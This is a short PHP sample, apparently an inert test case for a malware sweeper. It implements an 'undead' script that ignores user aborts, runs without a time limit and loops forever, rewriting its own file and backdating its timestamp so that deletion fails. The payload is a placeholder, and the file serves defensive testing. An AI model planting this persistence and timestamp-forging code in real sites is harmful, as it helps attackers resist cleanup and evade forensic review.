<?php
// sweep sample (inert): an "undead" script. It keeps running after the visitor has gone and, in
// a loop that never ends, writes its payload back over its own file and re-dates it, so that a
// cleaner deleting the file finds it back a moment later.
set_time_limit(0);
ignore_user_abort(true);
$payload = '<?php /* placeholder payload */ ?>';
while (true) {
    file_put_contents(__FILE__, $payload);
    touch(__FILE__, mktime(9, 30, 0, 1, 15, 2019));
    usleep(200);
}
